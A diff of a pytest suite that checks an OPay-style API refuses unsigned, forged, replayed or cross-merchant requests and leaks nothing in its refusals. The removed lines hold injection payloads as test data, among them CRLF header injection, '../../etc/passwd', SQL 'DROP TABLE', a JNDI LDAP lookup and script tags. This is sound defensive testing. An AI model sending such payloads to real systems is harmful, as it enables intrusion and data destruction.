@@ -1,127 +1,121 @@
-"""Who may not ask is refused, as the contract has it, and learns nothing; hostile requests break nothing."""
+"""Who may not ask is refused, as the contract has it, and learns nothing."""
 
-import json
-from collections.abc import Callable
-
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from opay_contract.model.exchange import Exchange
-from opay_contract.suite.api import Api, value_of
-
-WRONG_KEY = "OPAYPRV_NOT_THE_MERCHANTS"
-ANOTHER = "256600000000001"
-MEGABYTE = 2**20
-
-FORGERIES: dict[str, Callable[[Api, bytes], str | None]] = {
-    "missing": lambda _api, _body: None,
-    "empty": lambda _api, _body: "",
-    "no digits": lambda _api, _body: "Bearer",
-    "wrong key": lambda api, body: api.judge.authorization(body, WRONG_KEY),
-    "truncated": lambda api, body: api.judge.authorization(body)[:-1],
-    "half": lambda api, body: api.judge.authorization(body)[:71],
-    "one digit more": lambda api, body: api.judge.authorization(body) + "0",
-    "one digit changed": lambda api, body: _flipped(api.judge.authorization(body)),
-    "upper case": lambda api, body: "Bearer " + api.judge.authorization(body)[7:].upper(),
-    "lower-case scheme": lambda api, body: "bearer " + api.judge.authorization(body)[7:],
-    "another scheme": lambda api, body: "Basic " + api.judge.authorization(body)[7:],
-    "no scheme": lambda api, body: api.judge.authorization(body)[7:],
-    "two signatures": lambda api, body: f"{api.judge.authorization(body)}, {api.judge.authorization(body)}",
-    "the key itself": lambda _api, _body: "Bearer OPAYPRV_GUESSED",
-    "zeros": lambda _api, _body: "Bearer " + "0" * 128,
-    "wide digits": lambda _api, _body: "Bearer " + "\xb2" * 128,
-    "of no body": lambda api, _body: api.judge.authorization(b"{}"),
-    "of another body": lambda api, _body: api.judge.authorization(b'{"customerId":"another"}'),
-    "of the body and a space": lambda api, body: _raw_digest(api, body + b" "),
-}
+from opay_contract.suite import catalogue
+from opay_contract.suite.api import BY_CUSTOMER, Api, Reply
+from opay_contract.suite.breach import check_each
+from opay_contract.suite.catalogue import WRONG_KEY
 
 
-def _flipped(authorization: str) -> str:
-    return authorization[:-1] + ("0" if authorization[-1] != "0" else "1")
+def test_a_request_without_a_signature_is_refused(api: Api) -> None:
+    promise = "a request without a signature is refused"
+    check_each(map(api.send, catalogue.unsigned(api)), lambda reply: api.refuses(reply, promise))
 
 
-def _raw_digest(api: Api, text: bytes) -> str:
-    """Return the signature of the text as it stands, not of what it means."""
-    return api.judge.authorization(text.replace(b"{", b"[", 1))
+def test_a_signature_that_does_not_hold_is_refused(api: Api) -> None:
+    promise = "a signature that does not hold is refused"
+    check_each(map(api.send, catalogue.forgeries(api)), lambda reply: api.refuses(reply, promise))
 
 
-def body_about_known(api: Api) -> bytes:
-    return json.dumps({"customerId": api.judge.target.customer_id}, separators=(",", ":")).encode()
+def test_a_signature_that_is_cut_is_refused(api: Api) -> None:
+    promise = "a signature that is cut, or has more than its digits, is refused"
+    check_each(map(api.send, catalogue.cut_signatures(api)), lambda reply: api.refuses(reply, promise))
 
 
-@pytest.mark.parametrize("forge", FORGERIES.values(), ids=FORGERIES.keys())
-def test_a_signature_that_does_not_hold_is_refused(api: Api, forge: Callable[[Api, bytes], str]) -> None:
-    body = body_about_known(api)
-    exchange = api.post(body, Authorization=forge(api, body))
-    api.refuses(exchange)
-    expect_nothing_of(api, exchange)
+def test_a_signature_in_another_form_is_refused(api: Api) -> None:
+    promise = "a signature in another form than the documented is refused"
+    check_each(map(api.send, catalogue.other_forms(api)), lambda reply: api.refuses(reply, promise))
 
 
-def expect_nothing_of(api: Api, exchange: Exchange) -> None:
-    assert api.judge.target.customer_id.encode() not in exchange.response.body
-    assert b"data" not in exchange.response.body or value_of(exchange)["data"] is None
+def test_a_bad_signature_is_answered_as_failed_authentication(api: Api) -> None:
+    def check(reply: Reply) -> None:
+        envelope = api.judge.operation.envelope
+        others = set(envelope.codes) - {api.judge.authentication_code} if envelope else set()
+        if reply.code in others:
+            raise reply.breach(
+                f"a bad signature is answered by {api.judge.authentication_code}, a code of its own or an "
+                "HTTP status, and by no code that means something else",
+                f"code {reply.code}",
+            )
+
+    check_each(map(api.send, catalogue.forgeries(api)[:2]), check)
+
+
+def test_a_signature_covers_every_member(api: Api) -> None:
+    """Signed rightly, wrongly, and over a part: the last two are to be answered alike."""
+    query = api.judge.known_query() | api.judge.token_query(api.tokens[0])
+    body = api.judge.text(query)
+    right = api.send(api.make("the known customer and its token", body))
+    wrong = api.send(api.make("the same, signed with another key", body, key=WRONG_KEY))
+    if right.verdict == wrong.verdict:
+        return  # refused for another reason, before the signature is looked at
+
+    def check(part: str) -> None:
+        signature = api.judge.authorization(api.judge.text({part: query[part]}))
+        name = f"the known customer and its token, with a signature over {part} alone"
+        reply = api.post(name, body, {api.judge.scheme.header: signature})
+        if reply.verdict != wrong.verdict:
+            raise reply.breach("a signature covers every member of the body", f"{part} alone was enough")
+
+    check_each(query, check)
+
+
+def test_a_signature_that_is_sent_again_with_another_body_is_refused(api: Api) -> None:
+    promise = "a signature that is sent again with another body is refused"
+    check_each(map(api.send, catalogue.replays(api)), lambda reply: api.refuses(reply, promise))
+
+
+def test_a_body_that_can_be_read_in_two_ways_never_answers_for_another(api: Api) -> None:
+    def check(reply: Reply) -> None:
+        if not reply.is_success:
+            api.refuses(reply, "a signature that is sent again with another body is refused")
+        elif api.customer_in(reply.data).get(api.judge.member(BY_CUSTOMER)) != api.judge.target.customer_id:
+            raise reply.breach("an answer is about the customer whose id was signed", "another customer")
+
+    check_each(map(api.send, catalogue.ambiguous_replays(api)), check)
+
+
+def test_another_merchants_id_is_refused(api: Api) -> None:
+    promise = "a merchant's id that is not the key's is refused"
+    check_each(map(api.send, catalogue.other_merchants(api)), lambda reply: api.refuses(reply, promise))
+
+
+def test_a_request_without_a_merchants_id_is_refused(api: Api) -> None:
+    promise = "a request without a merchant's id is refused"
+    check_each(map(api.send, catalogue.no_merchant(api)), lambda reply: api.refuses(reply, promise))
+
+
+def test_a_refusal_tells_nothing_of_the_customer_the_key_or_the_signature(api: Api) -> None:
+    asks = [
+        *catalogue.unsigned(api),
+        *catalogue.forgeries(api),
+        *catalogue.other_merchants(api),
+        *catalogue.unknown_queries(api),
+        *catalogue.not_queries(api)[:1],
+    ]
+    replies = [reply for reply in map(api.send, asks) if not reply.is_success]
+    check_each(replies, api.tells_nothing)
 
 
 @given(key=st.text(min_size=1).filter(str.strip))
 def test_no_other_key_opens(api: Api, key: str) -> None:
-    body = body_about_known(api)
+    body = api.judge.text(api.judge.known_query())
     signed = api.judge.authorization(body, key.encode("utf-8", "replace").decode())
     if signed != api.judge.authorization(body):
-        api.refuses(api.post(body, Authorization=signed))
+        ask = api.make(
+            "a key that was made up", body, is_made_up=True, headers={api.judge.scheme.header: signed}
+        )
+        api.refuses(api.send(ask), "a signature that does not hold is refused")
 
 
-@pytest.mark.parametrize(
-    "changed",
-    [
-        b'{"customerId":"another"}',
-        b'{"customerId":"%s","opayToken":"a"}',
-        b'{"opayToken":"%s"}',
-        b'{"customerId":"%s "}',
-        b'{"customerId":"%s","customerId":"%s"}',
-        b'{"a":1,"customerId":"%s"}',
-    ],
-)
-def test_a_signature_that_is_sent_again_with_another_body_is_refused(api: Api, changed: bytes) -> None:
-    signature = api.judge.authorization(body_about_known(api))
-    body = changed.replace(b"%s", api.judge.target.customer_id.encode())
-    exchange = api.post(body, Authorization=signature)
-    api.refuses(exchange)
-    expect_nothing_of(api, exchange)
+def test_nothing_in_a_query_becomes_a_header(api: Api) -> None:
+    def check(reply: Reply) -> None:
+        names = {name.lower() for name, _ in reply.exchange.response.headers or ()}
+        if names & {"x-injected", "set-cookie"}:
+            raise reply.breach("nothing in a query becomes a header of the answer", "a header")
+        api.stays_up(reply)
+        api.conforms(reply)
 
-
-@pytest.mark.parametrize("merchant", [ANOTHER, None, "", "0", "*", "256612345678901\t1", "'1'='1"])
-def test_another_merchants_id_is_refused_with_our_signature(api: Api, merchant: str | None) -> None:
-    exchange = api.post(body_about_known(api), MerchantId=merchant)
-    api.refuses(exchange)
-    expect_nothing_of(api, exchange)
-
-
-def test_another_merchants_id_is_refused_with_another_key(api: Api) -> None:
-    body = body_about_known(api)
-    signature = api.judge.authorization(body, WRONG_KEY)
-    api.refuses(api.post(body, MerchantId=ANOTHER, Authorization=signature))
-
-
-INJECTIONS = [
-    "a\r\nX-Injected: yes",
-    "a\nSet-Cookie: a=b",
-    "a\0b",
-    "../../etc/passwd",
-    "' OR '1'='1",
-    '"; DROP TABLE customers; --',
-    "${jndi:ldap://example.com/a}",
-    "{{7*7}}",
-    "<script>alert(1)</script>",
-    "%0d%0aX-Injected:%20yes",
-    "\u202e\u0000\uffff",
-]
-
-
-@pytest.mark.parametrize("text", INJECTIONS)
-@pytest.mark.parametrize("member", ["customerId", "opayToken"])
-def test_nothing_in_a_query_becomes_a_header(api: Api, member: str, text: str) -> None:
-    exchange = api.ask({member: text})
-    names = {name.lower() for name, _ in exchange.response.headers or ()}
-    assert not names & {"x-injected", "set-cookie"}
-    api.refuses(exchange)
+    check_each(map(api.send, catalogue.injections(api)), check)
